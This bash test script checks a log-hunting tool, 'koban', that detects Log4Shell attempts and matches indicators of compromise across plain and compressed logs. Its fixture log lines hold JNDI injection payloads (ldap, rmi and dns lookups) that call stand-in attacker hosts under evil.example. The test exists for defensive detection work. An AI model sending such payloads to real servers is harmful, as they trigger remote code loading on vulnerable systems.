#!/usr/bin/env bash
# koban iocs + koban hunt end to end on logs this test writes: attacks in
# plain, gzip, bzip2 and xz logs (by content, whatever the name), standard
# input, a directory walk, IOC matching on token boundaries, the traps that
# must not fire, --emit-iocs, exit statuses; then acme's own logs and IOCs.
set -u
KOBAN=$(realpath "$1")
SRC=$(realpath "$2")
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$work"
export KOBAN_DB=$work/h.db
fail=0
check() { if ! eval "$1"; then echo "FAIL: $2"; fail=1; fi; }

mkdir -p logs/web logs/other
python3 - <<'PY'
import bz2, gzip, lzma
a = [
    '192.0.2.10 - - [19/Nov/2026:02:14:07 +0000] "GET / HTTP/1.1" 200 512 "-" "${jndi:ldap://cb1.evil.example:1389/a}"',
    '192.0.2.11 - - [19/Nov/2026:02:15:07 +0000] "GET /?q=%24%7Bjndi%3Armi%3A%2F%2Fcb2.evil.example%2Fx%7D HTTP/1.1" 200 512 "-" "curl"',
]
ordinary = ['198.18.0.%d - - [19/Nov/2026:01:00:%02d +0000] "GET /index.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"' % (i, i % 60) for i in range(1, 200)]
traps = ['debconf: Removing ${REMOVED_DEVICES}', 'server.port=${server.port}', 'echo ${HOME}',
         'docs: the jndi: lookup is disabled in 2.16',
         'client 10.1.2.30 talked to 110.1.2.3 and 10.1.2.34',  # 10.1.2.3 only inside longer addresses
         'hash 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef00']  # a 66-hex run
body = "\n".join(ordinary[:100] + [a[0]] + ordinary[100:] + traps) + "\n"
open("logs/web/access.log", "w").write(body)
open("logs/web/access.log.1", "wb").write(gzip.compress(("\n".join(ordinary + [a[1]]) + "\n").encode()))
open("logs/other/app.bz2.log", "wb").write(bz2.compress(b"line one\n" + a[0].encode() + b"\n"))
open("logs/other/old.txt", "wb").write(lzma.compress(("\n".join(ordinary) + "\n" + a[1] + "\n").encode()))
open("logs/other/bytes.log", "wb").write(b"\xff\xfe\x00 not utf-8 \xc3\x28 " + a[0].encode() + b"\n")
open("iocs.txt", "w").write("# a list\n10.1.2.3\n0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\nevil.example\n198.18.0.77\n")
PY

"$KOBAN" --json hunt logs >out.json 2>err
rc=$?
check '[ $rc = 1 ]' "hits: exit 1 (got $rc): $(cat err)"
n=$(grep -c '"kind":"log4shell"' out.json)
check '[ "$n" = 5 ]' "five attempts in five files of four compressions (got $n)"
check 'grep -q "access.log.1\",\"line\":200," out.json' "gzip found by content (line numbers of the decompressed stream)"
check 'grep -q "old.txt" out.json' "xz found by content whatever the name"
check 'grep -q "bytes.log" out.json' "bytes that are not UTF-8 do not hide a payload"
check '! grep -q "REMOVED_DEVICES\|server.port\|HOME\|disabled in 2.16" out.json' "the traps do not fire"

"$KOBAN" iocs import iocs.txt >imp 2>err
check 'grep -q "4 IOCs" imp' "a plain list: $(cat imp err)"
"$KOBAN" --json hunt logs/web/access.log >out2.json 2>err
check 'grep -q "\"what\":\"cb1.evil.example\"" out2.json' "a domain matched by label suffix"
check 'grep -q "\"what\":\"198.18.0.77\"" out2.json' "an address matched"
check '! grep -q "\"what\":\"10.1.2.3\"" out2.json' "not inside a longer address"
check '! grep -q "0123456789abcdef00" out2.json' "not inside a longer hex run"

cat logs/web/access.log | "$KOBAN" --csv hunt --no-iocs --emit-iocs cb.txt - >out3.csv 2>err
rc=$?
check '[ $rc = 1 ] && grep -q "^-,101," out3.csv' "standard input ($rc): $(head -3 out3.csv)"
check 'grep -qx "cb1.evil.example" cb.txt' "--emit-iocs writes the callback hosts"

printf 'nothing here\n' | "$KOBAN" hunt --no-iocs - >/dev/null 2>&1
check '[ $? = 0 ]' "no hits: exit 0"
"$KOBAN" hunt --no-iocs no/such/file >/dev/null 2>err
check '[ $? = 2 ] && grep -q "no/such/file" err' "a missing file: exit 2, named"

# with a store: hits kept and linked to the ledger's assets, callbacks kept as IOCs
export KOBAN_DB=$work/link.db
cat >ledger.csv <<'CSV'
name,category,interfaces
web-01.corp.example,external,service 10.9.0.5:443/tcp
db-01.corp.example,internal,
gw,internal,
CSV
"$KOBAN" -q ledger import ledger.csv
mkdir -p link/web-01 link/central
a0='192.0.2.10 - - [19/Nov/2026:02:14:07 +0000] "GET / HTTP/1.1" 200 512 "-" "${jndi:ldap://cb9.evil.example:1389/a}"'
printf '%s\n' "$a0" >link/web-01/access.log
printf '<13>Nov 19 02:14:07 db-01 app: ${jndi:dns://cb8.evil.example/x}\n' >link/central/messages
printf '{"server_addr":"10.9.0.5","msg":"${jndi:rmi://cb7.evil.example/x}"}\n' >link/central/app.json
printf '%s\n' "$a0" >link/central/gw.log.1
printf '%s\n' "$a0" >link/central/unknown.log
"$KOBAN" --json hunt link >link.json 2>err
rc=$?
check '[ $rc = 1 ]' "linking: exit 1 (got $rc): $(cat err)"
asset_of() { grep "\"file\":\"link/$1\"" link.json | grep -o '"asset":"[^"]*"' | head -1; }
host_of() { grep "\"file\":\"link/$1\"" link.json | grep -o '"host":"[^"]*"' | head -1; }
check '[ "$(asset_of web-01/access.log)" = "\"asset\":\"web-01.corp.example\"" ]' "a directory named by the host's first label: $(asset_of web-01/access.log)"
check '[ "$(asset_of central/messages)" = "\"asset\":\"db-01.corp.example\"" ]' "the syslog host name: $(asset_of central/messages)"
check '[ "$(host_of central/messages)" = "\"host\":\"db-01\"" ]' "the host name in --json: $(host_of central/messages)"
check '[ "$(asset_of central/app.json)" = "\"asset\":\"web-01.corp.example\"" ]' "the server address of an interface: $(asset_of central/app.json)"
check '[ "$(asset_of central/gw.log.1)" = "\"asset\":\"gw\"" ]' "a file name without its extensions: $(asset_of central/gw.log.1)"
check '[ "$(asset_of central/unknown.log)" = "\"asset\":\"\"" ]' "no asset when nothing names one: $(asset_of central/unknown.log)"
n=$(sqlite3 "$KOBAN_DB" "select count(*) from hunt_hit")
check '[ "$n" = 5 ]' "five hits kept (got $n)"
n=$(sqlite3 "$KOBAN_DB" "select count(*) from ioc where source='koban hunt' and value like 'cb_.evil.example'")
check '[ "$n" = 3 ]' "three callback hosts kept as IOCs (got $n)"
"$KOBAN" --json hunt link >link2.json 2>err
n=$(sqlite3 "$KOBAN_DB" "select count(*) from hunt_hit")
check '[ "$n" = 5 ]' "hunting again updates the kept hits, adds none (got $n)"
check '! grep -q "\"kind\":\"ioc\"" link2.json' "a kept callback does not echo as an IOC hit inside its own payload"
"$KOBAN" --json hunt --asset db-01.corp.example link/central/unknown.log >asset.json 2>err
check 'grep -q "\"asset\":\"db-01.corp.example\"" asset.json' "--asset links every hit"
"$KOBAN" --csv hunt --stored --asset db-01.corp.example >stored.csv 2>err
rc=$?
check '[ $rc = 1 ] && [ "$(grep -c "^link/central/" stored.csv)" = 2 ]' "--stored lists the kept hits of an asset ($rc): $(cat stored.csv err)"
"$KOBAN" hunt --asset no-such-host link/central/unknown.log >/dev/null 2>err
check '[ $? = 2 ] && grep -q "no-such-host" err' "an unknown --asset: exit 2, named"
mkdir -p link2 && cp link/web-01/access.log link2/new.log
"$KOBAN" -q hunt --no-store --no-iocs link2 >/dev/null 2>&1
check '[ "$(sqlite3 "$KOBAN_DB" "select count(*) from hunt_hit")" = 5 ]' "--no-store keeps nothing"

# acme: attacks, the scanner and the success sign apart; traps silent
export KOBAN_DB=$work/acme.db
"$KOBAN" -q iocs import "$SRC"/examples/acme/iocs/* 2>/dev/null
"$KOBAN" --json hunt "$SRC/examples/acme/logs" >acme.json 2>err
check '[ "$(grep -c "\"class\":\"attempt\"" acme.json)" = 5 ]' "acme: five attempts"
check '[ "$(grep -c "\"class\":\"scanner\"" acme.json)" = 2 ]' "acme: the scanner's two probes"
check '[ "$(grep -c "\"class\":\"success\"" acme.json)" = 1 ]' "acme: one success sign"
check '! grep -q "hr-tomcat" acme.json' "acme: the traps stay silent"
check 'grep -q "\"kind\":\"ioc\"" acme.json' "acme: the IOCs match"
exit $fail
